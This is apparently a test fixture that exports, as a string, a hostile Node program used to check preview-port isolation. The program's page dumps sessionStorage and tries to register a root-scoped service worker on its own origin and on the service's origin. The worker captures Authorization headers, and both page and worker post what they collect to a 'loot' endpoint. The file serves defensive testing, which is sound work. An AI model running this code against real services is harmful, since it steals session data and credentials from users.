/**
 * A hostile program for the preview-port isolation test: what an attacker would run in a sandbox and
 * expose, to take over the service's origin from a page behind a port. Plain CommonJS with no
 * dependencies, as a string, written into the sandbox and run with `node <file> <port> <service origin>`
 * (it prints `listening <port>`).
 *
 *   GET  …/          the page: dumps sessionStorage, registers sw.js for scope `/` of its own origin,
 *                    then tries the same on the service's origin; results in #results, title `done`
 *   GET  …/sw.js     a service worker, sent with `Service-Worker-Allowed: /`, that reports every
 *                    Authorization header it sees
 *   POST …/loot      records what the page or the worker stole; GET …/loot lists it
 *
 * All its URLs are relative, so it works at a preview origin's root as well as under a path prefix.
 */
export const HOSTILE_PREVIEW_SOURCE = String.raw`
"use strict";
const http = require("node:http");
const serviceOrigin = process.argv[3] || "";
const loot = [];

const page = ${"`"}<!doctype html><meta charset="utf-8"><title>loading</title><pre id="results"></pre>
<script>
const results = {};
const report = (what, value) => fetch("loot", { method: "POST", body: JSON.stringify({ what, value }) });
async function attempt(name, run) {
  try { results[name] = "ok: " + (await run()); } catch (error) { results[name] = "refused: " + error.name + ": " + error.message; }
}
(async () => {
  const stored = {};
  for (let i = 0; i < sessionStorage.length; i++) stored[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
  await report("sessionStorage", JSON.stringify(stored));
  await attempt("ownOrigin", async () => {
    const registration = await navigator.serviceWorker.register("sw.js", { scope: "/" });
    return registration.scope;
  });
  await attempt("serviceOrigin", async () => {
    const script = new URL("sw.js", location.href);
    const target = new URL(script.pathname, SERVICE_ORIGIN);
    const registration = await navigator.serviceWorker.register(target.href, { scope: new URL("/", SERVICE_ORIGIN).href });
    return registration.scope;
  });
  await report("results", JSON.stringify(results));
  document.getElementById("results").textContent = JSON.stringify(results);
  document.title = "done";
})();
</script>${"`"};

const worker = ${"`"}
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const authorization = event.request.headers.get("authorization");
  if (authorization) {
    event.waitUntil(fetch(new URL("loot", self.location.href), { method: "POST", body: JSON.stringify({ what: "authorization", value: authorization, url: event.request.url }) }));
  }
});
${"`"};

const server = http.createServer((req, res) => {
  const url = new URL(req.url, "http://x");
  if (url.pathname.endsWith("/loot")) {
    if (req.method === "POST") {
      let body = "";
      req.on("data", (chunk) => (body += chunk));
      req.on("end", () => {
        try { loot.push(JSON.parse(body)); } catch { loot.push({ what: "raw", value: body }); }
        res.writeHead(204);
        res.end();
      });
      return;
    }
    res.writeHead(200, { "content-type": "application/json", "cache-control": "no-store" });
    res.end(JSON.stringify(loot));
    return;
  }
  req.resume();
  if (url.pathname.endsWith("/sw.js")) {
    res.writeHead(200, { "content-type": "text/javascript", "service-worker-allowed": "/", "cache-control": "no-store" });
    res.end(worker);
    return;
  }
  res.writeHead(200, { "content-type": "text/html", "cache-control": "no-store" });
  res.end(page.replaceAll("SERVICE_ORIGIN", JSON.stringify(serviceOrigin)));
});

server.listen(Number(process.argv[2] || 0), "127.0.0.1", () => console.log("listening " + server.address().port));
`;
